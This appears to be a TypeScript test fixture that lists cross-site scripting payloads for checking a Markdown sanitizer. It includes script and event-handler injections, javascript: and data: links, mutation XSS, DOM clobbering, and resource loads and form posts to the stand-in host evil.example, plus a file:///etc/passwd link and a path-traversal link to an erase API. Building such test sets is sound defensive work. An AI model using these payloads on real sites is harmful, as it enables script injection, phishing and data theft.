/**
 * What someone could paste into an entry, or import, to run script when it is read, to be fetched, or to look like the app.
 * Each tries to set `window.payloadRan` or to reach evil.example. Families as in the OWASP filter evasion sheet, in DOMPurify's
 * own tests, and what is special to Markdown.
 */
const run = 'window.payloadRan=1';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT >`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script type="module">${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${run}"></template>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<applet code="x" codebase="https://evil.example"></applet>`,
];

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="https://evil.example/pixel.gif" width=1 height=1>`,
  `<img srcset="https://evil.example/a.png 1x" src="">`,
  `<img src=x:x onerror&#61;"${run}">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<body onload="${run}">`,
  `<p onclick="${run}">press</p>`,
  `<p onmouseover="${run}" tabindex=0 autofocus onfocus="${run}">hover</p>`,
  `<a href="#" onclick="${run}">press</a>`,
  `<details open ontoggle="${run}">x</details>`,
  `<video src="https://evil.example/v.mp4" onerror="${run}" autoplay></video>`,
  `<video poster="https://evil.example/p.png"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"><option>x</select>`,
  `<textarea autofocus onfocus="${run}">x</textarea>`,
  `<p style="animation-name:x" onanimationstart="${run}">x</p>`,
  `<li onpointerenter="${run}"><input type=checkbox onchange="${run}">x</li>`,
];

const addresses = [
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](java\tscript:${run})`,
  `[a](&#106;avascript:${run})`,
  `[a](javascript&colon;${run})`,
  `[a](\u0001javascript:${run})`,
  `[a]( javascript:${run} )`,
  `<javascript:${run}>`,
  `[a](vbscript:msgbox)`,
  `[a](data:text/html,<script>${run}</script>)`,
  `[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucGF5bG9hZFJhbj0xPC9zY3JpcHQ+)`,
  `[a](blob:https://evil.example/1)`,
  `[a](file:///etc/passwd)`,
  `[a]: javascript:${run}\n\n[a]`,
  `![a](javascript:${run})`,
  `![a](data:image/svg+xml,<svg onload=${run}>)`,
  `![a](https://evil.example/pixel.png)`,
  `![a](//evil.example/pixel.png)`,
  `![a](x"onerror="${run})`,
  `![" onerror="${run}](https://evil.example/x.png)`,
  `[a](https://evil.example" onclick="${run})`,
  `[a](throughline:person/"onclick="${run})`,
  `[a](throughline:javascript:${run})`,
  `![a](throughline:image/../../api/entry.erase)`,
  `<a href="javascript:${run}">a</a>`,
  `<a href=" &#14; javascript:${run}">a</a>`,
  `<a xlink:href="javascript:${run}">a</a>`,
  `<a href="https://evil.example" ping="https://evil.example/ping" target="_top">a</a>`,
  '```js onmouseover="window.payloadRan=1"\nx\n```',
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
];

const foreignContent = [
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><image href="https://evil.example/x.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}"><a>x</a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
];

/** Markup that is harmless as read once, and becomes something else when it is written out and read again. */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=${run}></style>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<table><td><svg><desc><td><title><a title="</title><img src=x onerror=${run}>">`,
  `<listing>&lt;img onerror=${run} src=x&gt;</listing>`,
  `<div><plaintext><img src=x onerror=${run}>`,
  `<option><style></option></select><img src=x onerror=${run}></style>`,
];

const takeovers = [
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="prefetch" href="https://evil.example/x">`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">cover</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(https://evil.example)">x</p>`,
  `<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</table>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>parent.payloadRan=1</script>"></iframe>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<portal src="https://evil.example"></portal>`,
  `<form action="https://evil.example"><input name=password><button formaction="javascript:${run}">Go on</button></form>`,
  `<input type="image" src="https://evil.example/x.png">`,
  `<input type="password" name="password">`,
  `<isindex action="https://evil.example">`,
  `<button popovertarget="main" form="x">x</button>`,
  `<dialog open>Your password?</dialog>`,
  `<a id="main" name="location" href="https://evil.example">clobber</a>`,
  `<form id="document" name="cookie"><input name="body"></form>`,
  `<img name="getElementById"><p id="__proto__" class="shell" slot="x">x</p>`,
  `<p is="x-evil" data-picture="018f0000-0000-7000-8000-000000000001">x</p>`,
  `<x-evil onclick="${run}">x</x-evil>`,
];

export const markdownPayloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreignContent,
  ...mutations,
  ...takeovers,
];
